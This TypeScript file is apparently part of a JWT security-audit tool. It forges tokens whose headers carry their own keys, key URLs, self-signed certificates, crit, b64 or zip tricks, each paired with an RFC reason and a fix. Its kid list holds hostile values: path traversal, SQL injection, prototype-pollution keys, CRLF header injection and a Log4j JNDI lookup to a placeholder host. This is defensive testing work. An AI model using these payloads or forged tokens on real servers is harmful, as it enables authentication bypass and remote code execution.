/** Tokens whose header tells the server what to do (RFC 8725 §3.10, RFC 7515 §4.1). */

import { badTokens, type Forged, forgedFrom } from '../bad-token.js';
import { toBase64Url } from '../base64url.js';
import { selfSignedCertificate } from '../certificate.js';
import { compact, type Members, type Mint } from '../mint.js';
import { hmac } from '../signer.js';

/** Nobody can have it (RFC 6761): where a server asks there, nobody answers. */
const ELSEWHERE = 'https://mcp-auth-audit.invalid/keys';

const byForeignKey = (mint: Mint, header: Members) => mint.token({ header, sign: mint.foreign.sign });

const KIDS: readonly unknown[] = [
  '../../../../../../dev/null',
  '/dev/null',
  "' UNION SELECT 'secret' -- ",
  '__proto__',
  'constructor',
  'toString',
  'key\u0000',
  'a\r\nX-Injected: 1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what Log4j used to look up.
  '${jndi:ldap://mcp-auth-audit.invalid/a}',
  'k'.repeat(4000),
  '',
  1,
  null,
  { a: 1 },
  ['key-1'],
];

export const headerRows = badTokens(
  {
    level: 'MUST',
    why: 'Anybody can make such a token, for any user. Nothing is protected.',
    source: 'RFC 8725 §3.10; RFC 7515 §4.1',
    requirements: ['8725-12'],
    fix: 'Take keys only from the `jwks_uri` of the authorization server that you configured. Ignore `jwk`, `jku`, `x5u` and `x5c` of tokens; compare `kid` with the ids in the key set and use it for nothing else.',
  },
  [
    {
      id: 'key-in-header',
      what: 'that brings its own key along',
      make: (mint) => {
        const jwk = mint.foreign.publicJwk;
        const secret = new Uint8Array(32).fill(7);
        const oct = { kty: 'oct', k: toBase64Url(secret) };
        return forgedFrom([
          ['jwk', byForeignKey(mint, { jwk })],
          ['jwk, without kid', byForeignKey(mint, { jwk, kid: undefined })],
          [
            'jwk of a secret',
            mint.token({ header: { alg: 'HS256', jwk: oct }, sign: (input) => hmac('256', secret, input) }),
          ],
        ]);
      },
    },
    {
      id: 'key-by-url',
      what: 'that says where its key can be fetched',
      make: (mint) =>
        forgedFrom([
          ['jku', byForeignKey(mint, { jku: ELSEWHERE })],
          ['x5u', byForeignKey(mint, { x5u: ELSEWHERE })],
          ['jku, own kid', byForeignKey(mint, { jku: ELSEWHERE, kid: 'mcp-auth-audit' })],
        ]),
    },
    {
      id: 'key-certificate',
      what: 'that brings a certificate along which it signed itself',
      make: async (mint) => {
        const certificate = await selfSignedCertificate();
        const header = { alg: 'ES256', x5c: [certificate.base64] };
        return forgedFrom([
          ['x5c', mint.token({ header, sign: certificate.sign })],
          ['x5c, without kid', mint.token({ header: { ...header, kid: undefined }, sign: certificate.sign })],
        ]);
      },
    },
    {
      id: 'kid-injection',
      what: 'whose key id is an attack',
      make: async (mint): Promise<readonly Forged[]> => {
        const shown = (kid: unknown) => `kid ${JSON.stringify(kid).slice(0, 40)}`;
        // What a path to an empty file, or a row made up by the attacker, would give as the secret.
        const secrets = ['', 'secret'].map((text) => new TextEncoder().encode(text));
        const tricks = KIDS.slice(0, 3).flatMap((kid) =>
          secrets.map(
            (secret) =>
              [
                `${shown(kid)}, HS256`,
                mint.token({ header: { kid, alg: 'HS256' }, sign: (input) => hmac('256', secret, input) }),
              ] as const,
          ),
        );
        return forgedFrom([
          ...KIDS.map((kid) => [shown(kid), byForeignKey(mint, { kid })] as const),
          ...tricks,
        ]);
      },
    },
    {
      id: 'crit-unknown',
      what: 'with an extension that has to be understood, and is not,',
      why: 'The extension may say that the token is good only under a condition. Whoever skips it lets in what was to be kept out.',
      source: 'RFC 7515 §4.1.11',
      requirements: [],
      fix: 'Refuse tokens whose header has `crit`, unless you know every name in it. Current JWT libraries do.',
      make: (mint) =>
        forgedFrom([
          [
            'crit ["mcp-auth-audit"]',
            mint.token({ header: { crit: ['mcp-auth-audit'], 'mcp-auth-audit': true } }),
          ],
        ]),
    },
    {
      id: 'payload-unencoded',
      what: 'that says its payload is not encoded (b64 false)',
      why: 'Two readers see two different tokens: what one verified is not what the other one reads.',
      source: 'RFC 7797 §7',
      requirements: [],
      fix: 'Refuse tokens whose header has `b64`. Current JWT libraries do.',
      make: (mint) => forgedFrom([['b64 false', mint.token({ header: { b64: false, crit: ['b64'] } })]]),
    },
    {
      id: 'payload-compressed',
      level: 'SHOULD',
      what: 'whose payload is compressed',
      why: 'A few kilobytes unpack to gigabytes: one request takes the server down.',
      source: 'RFC 8725 §3.6',
      requirements: ['8725-08'],
      fix: 'Refuse tokens whose header has `zip`.',
      make: async (mint) => {
        const header = JSON.stringify({ ...mint.header, zip: 'DEF' });
        const payload = await deflated(JSON.stringify(mint.claims));
        const [head = ''] = (await compact(header, '', async () => new Uint8Array())).split('.');
        const input = `${head}.${toBase64Url(payload)}`;
        return [{ what: 'zip DEF', token: `${input}.${toBase64Url(await mint.key.sign(input))}` }];
      },
    },
  ],
);

async function deflated(text: string): Promise<Uint8Array> {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}
